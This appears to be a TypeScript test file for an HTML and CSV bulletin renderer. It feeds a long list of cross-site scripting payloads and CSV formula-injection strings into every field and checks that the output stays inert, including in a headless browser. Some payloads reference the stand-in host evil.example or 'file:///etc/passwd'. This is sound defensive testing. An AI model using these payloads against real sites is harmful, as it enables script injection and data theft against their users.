import { spawnSync } from "node:child_process";
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { parseHTML } from "linkedom";
import { describe, expect, test } from "vitest";
import { parseBulletin } from "../../src/bulletin/parse.ts";
import { renderCsv } from "../../src/bulletin/render-csv.ts";
import { renderHtml } from "../../src/bulletin/render-html.ts";
import type { Bulletin } from "../../src/core/types.ts";

const gold = parseBulletin(readFileSync(new URL("../../corpus/issue-545.txt", import.meta.url), "utf8"));

/** What an article's fields might hold to run a script, load something or break out of an attribute. */
const PAYLOADS: readonly string[] = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
  "<img src=x onerror=alert(1)>",
  "<img/src='http://evil.example/p.gif'>",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg/onload=alert`1`>",
  "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
  "<body onload=alert(1)>",
  "<iframe src=javascript:alert(1)></iframe>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<object data='data:text/html,<script>alert(1)</script>'></object>",
  "<embed src=http://evil.example/e.swf>",
  "<link rel=stylesheet href=http://evil.example/s.css>",
  "<style>@import 'http://evil.example/s.css';</style>",
  "<base href=http://evil.example/>",
  "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
  "<form action=http://evil.example/><input autofocus onfocus=alert(1)>",
  "<details open ontoggle=alert(1)>",
  "<video><source onerror=alert(1)></video>",
  "<audio src=x onerror=alert(1)>",
  "<marquee onstart=alert(1)>",
  "<a href=javascript:alert(1)>x</a>",
  "<a href='jav\tascript:alert(1)'>x</a>",
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  '" onmouseover=alert(1) x="',
  "' onfocus=alert(1) autofocus='",
  "--><script>alert(1)</script>",
  "]]><script>alert(1)</script>",
  "</title><script>alert(1)</script>",
  "</style><script>alert(1)</script>",
  "</textarea><script>alert(1)</script>",
  "</p></article></main></body></html><script>alert(1)</script>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;script&#62;alert(1)&#60;/script&#62;",
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  " javascript:alert(1)",
  "java\nscript:alert(1)",
  "data:text/html,<script>alert(1)</script>",
  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  "vbscript:msgbox(1)",
  "file:///etc/passwd",
  "blob:http://evil.example/1",
  'http://evil.example/"><script>alert(1)</script>',
  "https://evil.example/'onclick='alert(1)",
  'http://evil.example/?a=1&lt=2" style="background:url(http://evil.example/b)',
  "{{constructor.constructor('alert(1)')()}}",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a payload that no one may evaluate
  "${alert(1)}",
  "<!--#exec cmd='ls'-->",
  "<?xml version='1.0'?><x onload=alert(1)>",
  "\u0000<script>alert(1)</script>",
  "\ud800<script>alert(1)</script>",
  "<scr\u0000ipt>alert(1)</scr\u0000ipt>",
  "＜script＞alert(1)＜/script＞",
  "<a style=x:expression(alert(1))>",
  "\u202e<script>alert(1)</script>",
];

const hostile = (p: string): Bulletin => ({
  ...gold,
  title: p,
  publisher: p,
  remark: p,
  items: [
    {
      ...gold.items[0]!,
      headline: p,
      source: p,
      url: p,
      summary: p,
      content: `${p}\n正文${p}`,
      topics: [p],
      region: p,
      outlets: [{ articleId: p, source: p, url: p, publishedAt: p }],
      mentions: [{ kind: "term", name: p, text: p, start: 0, end: p.length }],
    },
  ],
});

const ALLOWED = new Set(
  "html head meta title style body a main header h1 h2 h3 p nav ol li span section article dl dt dd div mark strong table caption tbody tr th td".split(
    " ",
  ),
);

describe("HTML", () => {
  test.each(PAYLOADS.map((p) => [p]))("%j stays inert in every field", (p) => {
    const { document } = parseHTML(renderHtml(hostile(p)));
    for (const element of document.querySelectorAll("*")) {
      expect(ALLOWED.has(element.localName)).toBe(true);
      for (const { name, value } of element.attributes) {
        expect(name).not.toMatch(/^on/i);
        if (name === "href") expect(value).toMatch(/^(#|https?:\/\/)/);
        else expect(name).not.toMatch(/^(src|srcdoc|action|data|formaction|background|poster|ping)$/);
        if (name === "style") expect(value).toMatch(/^width:\d+%$/);
      }
    }
    expect(document.querySelectorAll("style")).toHaveLength(1);
  });

  test("regions, institutions, terms and figures are marked where they stand", () => {
    const content = "沈阳市卫健委建成平台，接入20家医院。";
    const item = {
      ...gold.items[0]!,
      content,
      mentions: [
        { kind: "institution" as const, name: "沈阳市卫生健康委员会", text: "沈阳市卫健委", start: 0, end: 6 },
        { kind: "term" as const, name: "x", text: "别处", start: 8, end: 10 },
      ],
    };
    const html = renderHtml({ ...gold, items: [item] });
    expect(html).toContain('<mark class="institution" title="机构：沈阳市卫生健康委员会">沈阳市卫健委</mark>建成平台');
    expect(html).toContain('<mark class="figure" title="数字：数量">20家</mark>');
    // A mark that no longer fits the edited text is left out.
    expect(html).not.toContain('term" title="术语：x');
  });
});

test.each([
  ["9月", "9", "日期"],
  ["提高到86.5%，", "86.5%", "比例"],
  ["投资2500万元。", "2500万元", "金额"],
  ["建档63777人次", "63777人次", "人次"],
  ["培训300余人", "300余人", "人数"],
  ["缩短到12分钟", "12分钟", "时长"],
])("a figure says its kind: %s", (content, figure, kind) => {
  expect(renderHtml({ ...gold, items: [{ ...gold.items[0]!, content }] })).toContain(
    `<mark class="figure" title="数字：${kind}">${figure}</mark>`,
  );
});

test("cells that Excel would run as formulas are defused", () => {
  for (const start of ["=", "+", "-", "@", "\t=", " ="]) {
    const csv = renderCsv({
      ...gold,
      items: [{ ...gold.items[0]!, headline: `${start}HYPERLINK("http://evil.example")` }],
    });
    expect(csv.startsWith("\ufeff序号,")).toBe(true);
    expect(csv).toContain(`"'${start}HYPERLINK(""http://evil.example"")"`);
  }
});

const chromium = ["/usr/bin/chromium", "/usr/bin/chromium-browser", "/usr/bin/google-chrome"].find((p) =>
  existsSync(p),
);
test.skipIf(!chromium)(
  "in a real browser: no console error, no request, no script (skipped where no Chromium is installed)",
  () => {
    const folder = mkdtempSync(join(tmpdir(), "weixun-"));
    try {
      const items = PAYLOADS.flatMap((p) => hostile(p).items);
      writeFileSync(join(folder, "b.html"), renderHtml({ ...gold, items: [...gold.items, ...items] }));
      const run = spawnSync(
        chromium!,
        [
          "--headless",
          "--no-sandbox",
          "--disable-gpu",
          "--disable-quic",
          "--no-first-run",
          "--disable-background-networking",
          "--disable-component-update",
          "--disable-sync",
          "--enable-logging=stderr",
          "--virtual-time-budget=2000",
          `--user-data-dir=${join(folder, "profile")}`,
          `--log-net-log=${join(folder, "net.json")}`,
          "--dump-dom",
          `file://${join(folder, "b.html")}`,
        ],
        { encoding: "utf8", timeout: 50_000, maxBuffer: 1 << 27 },
      );
      expect(run.stdout).toContain("二、具体内容");
      expect(run.stdout).not.toMatch(/<script|<iframe|<img/i);
      expect(run.stderr).not.toMatch(/CONSOLE/);
      expect(readFileSync(join(folder, "net.json"), "utf8")).not.toMatch(/"url":"https?:\/\/[^"]*evil\.example/);
    } finally {
      rmSync(folder, { recursive: true, force: true });
    }
  },
);

test("what an article does not tell has no row: source, day, link", () => {
  const item = { ...gold.items[0]!, url: "", publishedAt: "", source: "日报" };
  const { document } = parseHTML(renderHtml({ ...gold, items: [item] }));
  expect([...document.querySelectorAll("dl.head dt")].map((dt) => dt.textContent)).toEqual(["来源"]);
});

test("in print an item's heading, its rows and the summary stay together: no row is left at a page's foot", () => {
  expect(renderHtml(gold)).toContain(
    "h2, h3, dl.head { break-after: avoid; } dl.head, .summary { break-inside: avoid; }",
  );
});
